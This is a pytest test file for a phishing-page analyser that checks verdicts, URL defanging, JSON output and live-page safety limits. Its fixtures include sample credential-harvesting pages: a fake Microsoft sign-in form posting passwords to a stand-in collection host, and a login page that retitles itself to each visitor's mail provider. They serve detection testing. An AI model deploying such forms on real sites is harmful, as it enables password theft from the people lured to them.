"""`unhook page`: what a kept page wants, told from its source and from what several people see of it."""

import io
import json
from pathlib import Path

import pytest

from unhook import app
from unhook.cli.main import main
from unhook.context import Looking
from unhook.pages.browser import availability
from unhook.pages.flow.model import Known
from unhook.pages.saved.model import Saved

TRAP = (
    "<title>Sign in to your Microsoft account</title><form "
    "action='https://collect.example.net/p'><input type=password name=p></form>"
)
SAID = "<!-- saved from url=(0025)https://files.example.net/ -->"


@pytest.fixture
def trap(tmp_path: Path) -> str:
    path = tmp_path / "trap.html"
    path.write_text(SAID + TRAP)
    return str(path)


def test_a_verdict_with_reasons_and_places_defanged(trap: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["page", "--no-probe", trap]) == 1
    out = capsys.readouterr().out
    assert "This page is a trap" in out
    assert "collect[.]example[.]net" in out
    assert "found at: hxxps://files[.]example[.]net/ (so the file says)" in out
    assert "https://" not in out


def test_json_is_exact(trap: str, capsys: pytest.CaptureFixture[str]) -> None:
    main(["page", "--no-probe", "--format", "json", trap])
    (report,) = json.loads(capsys.readouterr().out)
    assert (report["verdict"], report["brand"], report["login"]) == ("malicious", "Microsoft", True)
    assert report["sent"][0]["url"] == "https://collect.example.net/p"


def test_whoever_asks_may_say_where_it_was_found(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "own.html"
    path.write_text(TRAP.replace("https://collect.example.net/p", "/common/login"))
    assert main(["page", "--no-probe", "--url", "https://login.microsoftonline.com/", str(path)]) == 0
    assert "belongs to the owner" in capsys.readouterr().out


def test_what_cannot_be_told_is_not_clean(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text("<p>Words</p>")
    assert main(["page", "--no-probe", str(path)]) == 2


def test_the_worst_of_several_counts(tmp_path: Path, trap: str) -> None:
    (tmp_path / "page.html").write_text("<p>Words</p>")
    assert main(["page", "--no-probe", str(tmp_path / "page.html"), trap, str(tmp_path / "none.html")]) == 1


def test_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(TRAP.encode())))
    assert main(["page", "--no-probe", "-"]) == 1


def test_the_pages_of_a_mail(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from email.message import EmailMessage

    message = EmailMessage()
    message["From"] = "a@florist.test"
    message.set_content("See the page.")
    message.add_attachment(TRAP.encode(), "text", "html", filename="invoice.html")
    (tmp_path / "mail.eml").write_bytes(message.as_bytes())
    assert main(["page", "--no-probe", str(tmp_path / "mail.eml"), "--language", "de"]) == 1
    assert "invoice.html  gefährlich" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("target", "why"),
    [("https://a.test/", "live pages are opened with --live only"), ("none.html", "No such file")],
)
def test_what_cannot_be_looked_at(target: str, why: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["page", "--no-probe", target]) == 2
    assert why in capsys.readouterr().err


def test_a_check_with_pages_that_are_not_there(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.eml").write_bytes(b"From: a@florist.test\r\nSubject: x\r\n\r\nHello\r\n")
    assert main(["check", "--pages", str(tmp_path / "none.har"), str(tmp_path / "a.eml")]) == 2
    assert "none.har: No such file" in capsys.readouterr().err


def test_a_live_page_is_opened_where_that_was_allowed(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    asked = []

    def opened(address: str, looking: Looking, recipients: list[str]) -> Known:
        asked.append((address, looking.deny, looking.probe, recipients))
        return Known(address, 0.0, Saved(TRAP.encode(), address, address))

    monkeypatch.setattr(app, "open_live", opened)
    url = "https://files.example.net/"
    assert (
        main(["page", url, "--live", "--no-probe", "--deny", "Bank.example", "--recipient", "jo@x.test"]) == 1
    )
    assert asked == [(url, frozenset({"bank.example"}), False, ["jo@x.test"])]
    assert "found at: hxxps://files[.]example[.]net/" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("arguments", "why"),
    [
        (["http://127.0.0.1/"], "not opened: loopback 127.0.0.1"),
        (["http://2130706433/"], "not opened: loopback 127.0.0.1"),
        (["http://example.com:22/"], "not opened: port 22"),
        (["https://www.bank.example/", "--deny", "bank.example"], "not opened: denied www.bank.example"),
        (["https://a.test/", "--allow", "b.test"], "not opened: not-allowed a.test"),
    ],
)
def test_a_live_page_that_nobody_may_open(
    arguments: list[str], why: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["page", "--live", "--no-probe", *arguments]) == 2
    assert why in capsys.readouterr().err


def test_a_page_to_look_at(trap: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = tmp_path / "report.html"
    assert main(["page", "--no-probe", "--format", "html", "--output", str(report), trap]) == 1
    written = report.read_text(encoding="utf-8")
    assert "This page is a trap" in written
    assert "https://collect" not in written
    assert capsys.readouterr().out == ""


def test_where_there_is_no_page_there_is_no_report(tmp_path: Path) -> None:
    report = tmp_path / "report.html"
    assert main(["page", "--format", "html", "--output", str(report), str(tmp_path / "none.html")]) == 2
    assert not report.exists()


ADAPTS = (
    "<title>Sign in</title><form method=post><input type=password name=p></form><script>const d="
    "location.hash.split('@')[1];document.title='Sign in to '+({'gmail.com':'Google',"
    "'outlook.com':'Microsoft'}[d]||'Webmail')</script>"
)


@pytest.mark.chromium
def test_a_page_is_opened_as_several_people(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    if availability.chromium() is None:
        pytest.skip("needs Debian's chromium")
    path = tmp_path / "page.html"
    path.write_text(ADAPTS)
    assert main(["page", "--no-probe", str(path)]) == 2
    assert main(["page", "--probe", "--url", "https://files.example.net/", str(path)]) == 1
    told = capsys.readouterr().out
    assert "shows each visitor another provider (Google, Microsoft)" in told


def test_a_machine_that_cannot_open_pages_says_why(
    trap: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(availability, "refusal", lambda: "there are no namespaces")
    assert main(["page", trap]) == 1
    assert "not opened: there are no namespaces" in capsys.readouterr().out
    assert main(["page", "--probe", trap]) == 2
    assert "--probe: there are no namespaces" in capsys.readouterr().err


def opened_with(monkeypatch: pytest.MonkeyPatch, *arguments: str) -> Looking:
    """How `unhook page` would open a page."""
    asked: list[Looking] = []

    def opened(address: str, looking: Looking, recipients: list[str]) -> Known:
        asked.append(looking)
        return Known(address, 0.0, refusal="loopback", detail="127.0.0.1")

    monkeypatch.setattr(app, "open_live", opened)
    assert main(["page", "https://a.test/", "--live", *arguments]) == 2
    return asked[0]


def test_active_probing_has_to_be_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UNHOOK_MAILBOXES", "jo.own@gmail.com, box@corp.example")
    plain = opened_with(monkeypatch)
    assert (plain.mailboxes, plain.as_recipient) == ((), False)
    active = opened_with(monkeypatch, "--active", "--as-recipient")
    assert (active.mailboxes, active.as_recipient) == (("jo.own@gmail.com", "box@corp.example"), True)
    assert opened_with(monkeypatch, "--active", "--mailbox", "me@b.test").mailboxes == ("me@b.test",)
    assert opened_with(monkeypatch, "--mailbox", "me@b.test").mailboxes == ()


@pytest.mark.parametrize(
    ("arguments", "why"),
    [
        (["--active", "--mailbox", "a@b.test"], "say --live"),
        (["--live", "--active"], "needs mailboxes of your own"),
        (["--live", "--active", "--no-probe", "--mailbox", "a@b.test"], "say --probe"),
        (["--live", "--active", "--mailbox", "nobody"], "no mail address"),
        (["--live", "--active", "--mailbox", "a@b.test", "--mailbox", "c@d.test"], "give one of them"),
    ],
)
def test_active_probing_that_cannot_be(
    arguments: list[str], why: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("UNHOOK_MAILBOXES", raising=False)
    assert main(["page", "https://a.test/", *arguments]) == 2
    assert why in capsys.readouterr().err


def test_json_tells_the_requests_of_a_live_look(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], trap: str
) -> None:
    from unhook.pages.broker import Request
    from unhook.pages.live.model import Attempt

    here, gone = "https://files.example.net/", "https://gone.example.net/"
    attempts = (
        Attempt(Request(here, navigation=True), address="192.0.2.7", status=200, size=len(TRAP)),
        Attempt(Request("http://10.0.0.1/s.js", kind="script"), "private", "10.0.0.1"),
    )
    known = {
        here: Known(here, 0.0, Saved(TRAP.encode(), here, here), attempts=attempts),
        gone: Known(gone, 0.0, refusal="certificate", attempts=(Attempt(Request(gone), "certificate"),)),
    }
    monkeypatch.setattr(app, "open_live", lambda address, looking, recipients: known[address])
    assert main(["page", here, gone, trap, "--live", "--no-probe", "--format", "json"]) == 1
    opened, kept, refused = json.loads(capsys.readouterr().out)
    assert [(each["url"], each["status"], each["refusal"]) for each in opened["requests"]] == [
        (here, 200, None),
        ("http://10.0.0.1/s.js", None, "private"),
    ]
    assert kept["requests"] is None
    assert (refused["url"], refused["refusal"], refused["verdict"]) == (gone, "certificate", "inconclusive")
    assert refused["requests"][0]["url"] == gone
